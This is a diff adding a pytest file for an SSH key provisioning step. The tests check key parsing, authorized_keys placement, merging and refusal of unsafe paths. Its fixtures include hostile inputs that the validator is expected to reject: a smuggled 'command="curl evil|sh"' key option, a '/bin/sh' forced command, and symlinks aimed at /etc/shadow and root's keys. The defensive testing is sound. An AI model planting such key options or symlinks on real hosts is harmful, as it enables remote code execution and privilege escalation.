@@ -1,0 +1,184 @@
+"""SSH keys step: key validation, where keys go, merging, and refusing unsafe paths."""
+
+from __future__ import annotations
+
+import base64
+import os
+import stat
+import struct
+import subprocess
+
+import pytest
+
+from azprov.host import Host, UnsafePath
+from azprov.imds import PublicKey
+from azprov.steps import ssh_keys
+from support.cli import requires_root
+from support.fakes import ED25519, metadata
+from support.scratch_root import make_scratch_root
+
+UID = 1500
+
+
+def key(key_type: str, comment: str = "me@laptop", payload: bytes = b"\x00" * 40) -> str:
+    name = key_type.encode()
+    blob = struct.pack(">I", len(name)) + name + payload
+    return f"{key_type} {base64.b64encode(blob).decode()} {comment}".strip()
+
+
+@pytest.fixture
+def root(tmp_path):
+    return make_scratch_root(str(tmp_path / "root"), users=[("azureuser", UID)])
+
+
+@pytest.mark.parametrize("key_type", sorted(ssh_keys.KEY_TYPES))
+def test_every_openssh_key_type_is_accepted(key_type):
+    assert ssh_keys.parse_key(key(key_type))[0] == key_type
+
+
+def test_trailing_cr_lf_is_stripped_and_the_comment_kept():
+    parsed = ssh_keys.parse_key(ED25519 + "\r\n")
+    assert parsed[0] == "ssh-ed25519" and parsed[2] == "azureuser@azprov-demo"
+    assert ssh_keys.parse_key(key("ssh-rsa", comment=""))[2] == ""
+
+
+@pytest.mark.parametrize("data, message", [
+    (ED25519 + "\ncommand=\"curl evil|sh\" " + ED25519, "line break"),
+    (ED25519 + "\r" + ED25519, "line break"),
+    ('command="/bin/sh" ' + ED25519, "options"),
+    ("no-pty,from=\"*\" " + ED25519, "options"),
+    ("ssh-foo AAAA", "unknown key type"),
+    ("ssh-ed25519", "no key data"),
+    ("ssh-ed25519 not*base64", "not valid base64"),
+    ("ssh-ed25519 " + base64.b64encode(b"\x00\x00").decode(), "truncated"),
+    (key("ssh-rsa").replace("ssh-rsa ", "ssh-ed25519 ", 1), "not a ssh-ed25519 key"),
+    ("ssh-rsa " + "A" * (17 * 1024), "over"),
+    ("", "empty"),
+    ("ssh-ed25519 AAAA\x00", "control characters"),
+])
+def test_hostile_keys_are_refused(data, message):
+    with pytest.raises(ssh_keys.InvalidKey, match=message) as caught:
+        ssh_keys.parse_key(data)
+    assert caught.value.reason == "invalid_ssh_key"
+
+
+def test_too_many_keys_are_refused():
+    with pytest.raises(ssh_keys.InvalidKey, match="1001 SSH keys"):
+        ssh_keys.validate([PublicKey(ED25519)] * 1001)
+
+
+def test_merge_keeps_existing_lines_and_adds_no_duplicates():
+    existing = 'from="10.0.0.0/8" ' + ED25519 + "\n" + key("ssh-rsa") + "\n"
+    merged = ssh_keys.merge(existing, [ssh_keys.parse_key(ED25519), ssh_keys.parse_key(key("ecdsa-sha2-nistp256"))])
+    lines = merged.splitlines()
+    assert lines[:2] == existing.splitlines()
+    assert len(lines) == 3 and lines[2].startswith("ecdsa-sha2-nistp256 ")
+    assert ssh_keys.merge(merged, [ssh_keys.parse_key(key("ecdsa-sha2-nistp256"))]) == merged
+
+
+def test_the_path_follows_authorized_keys_file(root):
+    host = Host(root)
+    alice = host.user("azureuser")
+    open(os.path.join(root, "etc/ssh/sshd_config.d/50-keys.conf"), "w").write(
+        "AuthorizedKeysFile %h/.ssh/keys_%u .ssh/authorized_keys2\n")
+    targets = ssh_keys.target_files(host, alice, [PublicKey(ED25519, "")])
+    assert list(targets) == ["/home/azureuser/.ssh/keys_azureuser"]
+
+
+def test_an_imds_path_is_honoured_only_inside_the_home(root, caplog):
+    host = Host(root)
+    alice = host.user("azureuser")
+    keys = [PublicKey(ED25519, "/home/azureuser/.ssh/authorized_keys"),
+            PublicKey(key("ssh-rsa"), "/home/azureuser/.ssh/other_keys"),
+            PublicKey(key("ssh-dss"), "/root/.ssh/authorized_keys"),
+            PublicKey(key("ecdsa-sha2-nistp256"), "/home/azureuser/../root/.ssh/authorized_keys")]
+    targets = ssh_keys.target_files(host, alice, keys)
+    assert targets == {"/home/azureuser/.ssh/authorized_keys": [0, 2, 3],
+                       "/home/azureuser/.ssh/other_keys": [1]}
+    assert "outside azureuser's home" in caplog.text
+
+
+def test_authorized_keys_file_none_fails(root):
+    host = Host(root)
+    open(os.path.join(root, "etc/ssh/sshd_config.d/01.conf"), "w").write("AuthorizedKeysFile none\n")
+    with pytest.raises(ssh_keys.StepFailed, match="none"):
+        ssh_keys.target_files(host, host.user("azureuser"), [PublicKey(ED25519)])
+
+
+def test_keys_for_a_system_account_are_refused(root, config):
+    with pytest.raises(ssh_keys.InvalidMetadata):
+        ssh_keys.check(Host(root), metadata(admin_username="root"), config.provisioning)
+
+
+@requires_root
+def test_keys_are_installed_with_owner_and_modes(root, config):
+    host = Host(root)
+    real = subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(root, "tmp", "k")],
+                          capture_output=True)
+    assert real.returncode == 0
+    real_key = open(os.path.join(root, "tmp", "k.pub")).read()
+    md = metadata(keys=[real_key + "\r\n", key("ssh-rsa")])
+    assert ssh_keys.apply(host, md, config.provisioning) is True
+    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
+    keys_file = os.path.join(ssh_dir, "authorized_keys")
+    for path, mode in ((ssh_dir, 0o700), (keys_file, 0o600)):
+        info = os.lstat(path)
+        assert (stat.S_IMODE(info.st_mode), info.st_uid, info.st_gid) == (mode, UID, UID)
+    lines = open(keys_file).read().splitlines()
+    assert lines[0] == real_key.strip() and len(lines) == 2
+    fingerprint = subprocess.run(["ssh-keygen", "-l", "-f", keys_file], capture_output=True, text=True)
+    assert fingerprint.returncode == 0 and "ED25519" in fingerprint.stdout
+    assert ssh_keys.apply(host, md, config.provisioning) is False
+
+
+@requires_root
+def test_a_loose_ssh_directory_is_tightened(root, config):
+    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
+    os.mkdir(ssh_dir, 0o755)
+    os.chown(ssh_dir, UID, UID)
+    assert ssh_keys.apply(Host(root), metadata(), config.provisioning) is True
+    assert stat.S_IMODE(os.stat(ssh_dir).st_mode) == 0o700
+
+
+@requires_root
+def test_a_symlinked_ssh_directory_fails_and_its_target_is_untouched(root, config):
+    target = os.path.join(root, "root/.ssh")
+    os.mkdir(target, 0o700)
+    open(os.path.join(target, "authorized_keys"), "w").write("root's key\n")
+    os.symlink("/root/.ssh", os.path.join(root, "home/azureuser/.ssh"))
+    with pytest.raises(UnsafePath, match="symbolic link"):
+        ssh_keys.apply(Host(root), metadata(), config.provisioning)
+    assert os.listdir(target) == ["authorized_keys"]
+    assert open(os.path.join(target, "authorized_keys")).read() == "root's key\n"
+
+
+@requires_root
+def test_a_symlinked_authorized_keys_file_fails(root, config):
+    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
+    os.mkdir(ssh_dir, 0o700)
+    os.chown(ssh_dir, UID, UID)
+    os.symlink("/etc/shadow", os.path.join(ssh_dir, "authorized_keys"))
+    shadow = open(os.path.join(root, "etc/shadow")).read()
+    with pytest.raises(UnsafePath):
+        ssh_keys.apply(Host(root), metadata(), config.provisioning)
+    assert open(os.path.join(root, "etc/shadow")).read() == shadow
+
+
+@requires_root
+def test_a_home_owned_by_someone_else_fails(root, config):
+    os.chown(os.path.join(root, "home/azureuser"), 4242, 4242)
+    with pytest.raises(UnsafePath, match="owned by uid 4242"):
+        ssh_keys.apply(Host(root), metadata(), config.provisioning)
+
+
+@requires_root
+def test_a_world_writable_home_fails_as_sshd_would(root, config):
+    os.chmod(os.path.join(root, "home/azureuser"), 0o777)
+    with pytest.raises(UnsafePath, match="writable"):
+        ssh_keys.apply(Host(root), metadata(), config.provisioning)
+
+
+def test_a_missing_user_fails(tmp_path, config):
+    root = make_scratch_root(str(tmp_path / "r"))
+    with pytest.raises(ssh_keys.StepFailed, match="does not exist"):
+        ssh_keys.apply(Host(root), metadata(admin_username="ghost"), config.provisioning)
